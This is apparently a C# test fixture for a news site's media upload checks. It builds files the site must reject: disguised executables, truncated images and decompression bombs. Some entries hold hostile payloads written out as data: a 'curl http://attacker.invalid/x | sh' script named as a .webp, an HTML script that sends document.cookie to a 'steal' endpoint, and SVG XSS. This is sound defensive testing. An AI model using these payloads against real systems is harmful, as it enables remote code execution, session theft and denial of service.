using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using SkiaSharp;

namespace NewsSite.Tests.Media;

/// <summary>Files that must never become media: other formats, disguises, damaged images and bombs.</summary>
internal static class HostileFiles
{
    private static readonly byte[] PngSignature = [0x89, (byte)'P', (byte)'N', (byte)'G', 0x0D, 0x0A, 0x1A, 0x0A];

    private static readonly Dictionary<string, Func<(string FileName, byte[] Content)>> Files = new()
    {
        ["svg"] = () => ("logo.svg", Svg),
        ["svg named .jpg"] = () => ("logo.jpg", Svg),
        ["html named .png"] = () => ("photo.png", Encoding.UTF8.GetBytes("<!DOCTYPE html><html><body><script>fetch('/admin?steal='+document.cookie)</script></body></html>")),
        ["elf executable"] = () => ("photo.jpg", [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0, .. new byte[56]]),
        ["windows executable"] = () => ("photo.gif", [(byte)'M', (byte)'Z', 0x90, 0, .. new byte[56], (byte)'P', (byte)'E', 0, 0]),
        ["shell script"] = () => ("photo.webp", Encoding.ASCII.GetBytes("#!/bin/sh\ncurl http://attacker.invalid/x | sh\n")),
        ["pdf"] = () => ("scan.jpg", Encoding.ASCII.GetBytes("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")),
        ["zip"] = () => ("photos.png", Zip()),
        ["empty file"] = () => ("empty.jpg", []),
        ["truncated jpeg"] = () => ("cut.jpg", Truncated(TestImages.Encoded(640, 480, TestFormat.Jpeg))),
        ["truncated png"] = () => ("cut.png", Truncated(TestImages.Encoded(640, 480, TestFormat.Png))),
        ["truncated gif"] = () => ("cut.gif", Truncated(TestImages.Encoded(640, 480, TestFormat.Gif))),
        ["truncated animated gif"] = () => ("cut.gif", Truncated(TestImages.AnimatedGif(200, 100, 4))),
        ["truncated webp"] = () => ("cut.webp", Truncated(TestImages.Encoded(640, 480, TestFormat.LossyWebp))),
        ["truncated lossless webp"] = () => ("cut.webp", Truncated(TestImages.Encoded(640, 480, TestFormat.LosslessWebp))),
        // Skia decodes these two without complaint; only their structure shows they were cut short.
        ["gif without its trailer"] = () => ("cut.gif", TestImages.Encoded(64, 48, TestFormat.Gif)[..^1]),
        ["webp without its last byte"] = () => ("cut.webp", TestImages.Encoded(640, 480, TestFormat.LossyWebp)[..^1]),
        ["animated gif whose third frame cannot be decoded"] = () => ("broken.gif", GifWithUndecodableFrame()),
        ["animated gif with a control block of the wrong length"] = () => ("odd.gif", GifWithLongControlBlock()),
        ["jpeg signature then random bytes"] = () => ("photo.jpg", [0xFF, 0xD8, 0xFF, 0xE0, .. RandomBytes(20_000)]),
        ["png declaring 50,000 x 50,000 pixels"] = () => ("bomb.png", PngBomb(50_000, 50_000)),
        ["gif declaring 60,000 x 60,000 pixels"] = () => ("bomb.gif", GifBomb(60_000, 60_000)),
        ["jpeg 13,000 pixels wide"] = () => ("panorama.jpg", TestImages.Encoded(13_000, 16, TestFormat.Jpeg)),
        ["animated webp"] = () => ("animation.webp", TestImages.AnimatedWebp(40, 30, 2)),
        ["gif with too many frames for its size"] = () => ("long.gif", TestImages.AnimatedGif(100, 100, 120)),
        ["png over the size limit"] = () => ("huge.png", TestImages.NoisePng(600, 600)),
    };

    public static IEnumerable<string> Names => Files.Keys;

    public static (string FileName, byte[] Content) Get(string name) => Files[name]();

    private static byte[] Svg => Encoding.UTF8.GetBytes(
        """<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(document.domain)"><script>alert(1)</script></svg>""");

    private static byte[] Truncated(byte[] image) => image[..(image.Length / 2)];

    private static byte[] RandomBytes(int count)
    {
        var bytes = new byte[count];
        new Random(20261129).NextBytes(bytes);
        return bytes;
    }

    private static byte[] Zip()
    {
        using var output = new MemoryStream();
        using (var archive = new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = new StreamWriter(archive.CreateEntry("photo.jpg").Open());
            entry.Write("not really a photo");
        }
        return output.ToArray();
    }

    /// <summary>
    /// A valid PNG signature and header declaring a picture of <paramref name="width"/> x <paramref name="height"/>
    /// (10 GB of pixels at 4 bytes each), followed by a few bytes of compressed data: a decompression bomb.
    /// </summary>
    private static byte[] PngBomb(int width, int height)
    {
        var header = new byte[13];
        BinaryPrimitives.WriteInt32BigEndian(header, width);
        BinaryPrimitives.WriteInt32BigEndian(header.AsSpan(4), height);
        header[8] = 8; // bits per sample
        header[9] = 6; // RGBA
        return [.. PngSignature, .. ImageMetadata.PngChunk("IHDR", header), .. ImageMetadata.PngChunk("IDAT", ImageMetadata.Deflated(new byte[1024])),
            .. ImageMetadata.PngChunk("IEND", [])];
    }

    /// <summary>A GIF whose screen descriptor declares an enormous canvas, with one tiny frame and a trailer.</summary>
    private static byte[] GifBomb(ushort width, ushort height)
    {
        var size = new byte[4];
        BinaryPrimitives.WriteUInt16LittleEndian(size, width);
        BinaryPrimitives.WriteUInt16LittleEndian(size.AsSpan(2), height);
        byte[] frame = [0x2C, 0, 0, 0, 0, 1, 0, 1, 0, 0, 0x02, 0x02, 0x44, 0x01, 0x00];
        return [.. "GIF89a"u8, .. size, 0x80, 0, 0, 0, 0, 0, 255, 255, 255, .. frame, 0x3B];
    }

    /// <summary>A graphic control extension is 4 bytes long; this one's is 5, so it cannot be rebuilt faithfully.</summary>
    private static byte[] GifWithLongControlBlock()
    {
        byte[] Frame(SKColor colour) => TestGif.Frame(60, 40, TestGif.Solid(60 * 40, colour));
        byte[] longControl = [0x21, 0xF9, 5, 0x04, 10, 0, 0, 0, 0];
        return TestGif.File(60, 40, [TestGif.Loop(0)], [[.. TestGif.Control(10), .. Frame(TestGif.Orange)], [.. longControl, .. Frame(TestGif.Navy)]]);
    }

    /// <summary>
    /// An animation whose structure is whole, but whose third frame's compressed data starts with a code no
    /// LZW table can hold yet: only decoding every frame finds it.
    /// </summary>
    private static byte[] GifWithUndecodableFrame()
    {
        byte[] Frame(byte[] indices) => [.. TestGif.Control(10), .. TestGif.Frame(60, 40, indices)];
        var orange = TestGif.Solid(60 * 40, TestGif.Orange);
        var navy = TestGif.Solid(60 * 40, TestGif.Navy);
        byte[] broken = [.. TestGif.Control(10), 0x2C, 0, 0, 0, 0, 60, 0, 40, 0, 0, 8, .. TestGif.SubBlocks([0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF])];
        return TestGif.File(60, 40, [TestGif.Loop(0)], [Frame(orange), Frame(navy), broken, Frame(orange)]);
    }
}
